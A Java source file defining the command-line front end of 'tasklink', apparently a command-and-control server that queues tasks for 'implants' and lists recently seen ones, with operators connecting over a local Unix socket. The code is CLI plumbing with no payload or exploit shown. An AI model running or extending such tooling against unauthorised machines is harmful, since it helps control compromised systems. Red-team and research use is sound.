package io.tasklink.cli;

import com.fasterxml.jackson.databind.JsonNode;
import io.tasklink.client.OperatorClient;
import io.tasklink.config.TaskLinkConfig;
import io.tasklink.observability.LogMessages;
import io.tasklink.operator.Events;
import io.tasklink.server.TaskLinkServer;
import io.tasklink.state.Sighting;
import io.tasklink.util.Jsons;
import picocli.CommandLine;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;
import picocli.CommandLine.ParentCommand;

import java.io.IOException;
import java.net.UnixDomainSocketAddress;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;

@Command(
        name = "tasklink",
        mixinStandardHelpOptions = true,
        description = "Task queue server for implants, driven by operators over a Unix socket",
        subcommands = {
                TaskLinkCommand.ServeCommand.class,
                TaskLinkCommand.EnqueueCommand.class,
                TaskLinkCommand.SeenCommand.class,
                TaskLinkCommand.WatchCommand.class
        }
)
public final class TaskLinkCommand implements Runnable {
    static final Duration REPLY_TIMEOUT = Duration.ofSeconds(10);

    @Option(names = {"--dir"}, description = "Working directory", defaultValue = TaskLinkConfig.DEFAULT_DIR)
    String dir;

    @Option(names = {"--debug"}, description = "Log debug messages")
    boolean debug;

    /**
     * Command line with failures reported as one line on stderr instead of a
     * stack trace; {@code --debug} keeps the trace.
     */
    public static CommandLine commandLine() {
        TaskLinkCommand root = new TaskLinkCommand();
        CommandLine cli = new CommandLine(root);
        cli.setExecutionExceptionHandler((e, commandLine, parseResult) -> {
            if (root.debug) {
                e.printStackTrace(commandLine.getErr());
            } else {
                commandLine.getErr().println("Error: " + e.getMessage());
            }
            return 1;
        });
        return cli;
    }

    @Override
    public void run() {
        System.out.println("Use subcommands: serve | enqueue | seen | watch");
    }

    TaskLinkConfig config() {
        return TaskLinkConfig.fromDir(dir, debug);
    }

    OperatorClient connect(String name) throws IOException {
        return OperatorClient.connect(config().operatorSocket(), name);
    }

    @Command(name = "serve", description = "Run the server until interrupted")
    static final class ServeCommand implements Callable<Integer> {
        @ParentCommand
        TaskLinkCommand parent;

        @Override
        public Integer call() throws Exception {
            TaskLinkServer server = new TaskLinkServer(parent.config());
            server.start();
            Runtime.getRuntime().addShutdownHook(new Thread(() -> {
                if (server.isStopped()) {
                    return;
                }
                server.log().info(LogMessages.CAUGHT_SIGNAL);
                server.stop(null);
            }, "tasklink-shutdown-hook"));
            Throwable reason = server.await();
            if (reason != null) {
                System.err.println("Fatal error: " + reason.getMessage());
                return 1;
            }
            return 0;
        }
    }

    @Command(name = "enqueue", description = "Queue a task for an implant")
    static final class EnqueueCommand implements Callable<Integer> {
        @ParentCommand
        TaskLinkCommand parent;

        @Option(names = {"--name"}, description = "Operator name", defaultValue = "${sys:user.name}")
        String name;

        @Option(names = {"--id"}, required = true, description = "Implant ID")
        String id;

        @Option(names = {"--task"}, required = true, description = "Task to queue")
        String task;

        @Override
        public Integer call() throws Exception {
            CompletableFuture<Object> outcome = new CompletableFuture<>();
            try (OperatorClient client = OperatorClient.open(
                    UnixDomainSocketAddress.of(parent.config().operatorSocket()))) {
                client.on(LogMessages.TASK_QUEUED, Events.TaskQueued.class, (type, queued) -> {
                    if (id.equals(queued.id()) && name.equals(queued.operatorName())) {
                        outcome.complete(queued);
                    }
                });
                client.on(Events.ENQUEUE, Events.Enqueue.class, (type, rejected) -> outcome.complete(rejected));
                client.start(name);
                client.enqueue(id, task);
                Object result = outcome.get(REPLY_TIMEOUT.toMillis(), TimeUnit.MILLISECONDS);
                System.out.println(Jsons.toJson(result));
                if (result instanceof Events.Enqueue) {
                    return 1;
                }
                return 0;
            } catch (TimeoutException e) {
                System.err.println("No reply from server after " + REPLY_TIMEOUT);
                return 2;
            }
        }
    }

    @Command(name = "seen", description = "List recently seen implants")
    static final class SeenCommand implements Callable<Integer> {
        @ParentCommand
        TaskLinkCommand parent;

        @Option(names = {"--name"}, description = "Operator name", defaultValue = "${sys:user.name}")
        String name;

        @Override
        public Integer call() throws Exception {
            try (OperatorClient client = parent.connect(name)) {
                List<Sighting> seen = client.listSeen(REPLY_TIMEOUT);
                System.out.println(Jsons.toJson(seen));
                return 0;
            } catch (TimeoutException e) {
                System.err.println(e.getMessage());
                return 2;
            }
        }
    }

    @Command(name = "watch", description = "Print server events until the server says goodbye")
    static final class WatchCommand implements Callable<Integer> {
        @ParentCommand
        TaskLinkCommand parent;

        @Option(names = {"--name"}, description = "Operator name", defaultValue = "${sys:user.name}")
        String name;

        @Override
        public Integer call() throws Exception {
            try (OperatorClient client = OperatorClient.open(
                    UnixDomainSocketAddress.of(parent.config().operatorSocket()))) {
                client.onAny((type, payload) -> System.out.println(render(type, payload)));
                client.start(name);
                IOException end = client.ended().join();
                String goodbye = client.goodbyeMessage().orElse(null);
                if (goodbye == null) {
                    System.err.println("Connection ended: " + end.getMessage());
                    return 1;
                }
                System.err.println(goodbye.isEmpty() ? "Server said goodbye." : "Server said goodbye: " + goodbye);
                return 0;
            }
        }

        static String render(String type, JsonNode payload) {
            return type + " " + Jsons.toCompactJson(payload);
        }
    }
}
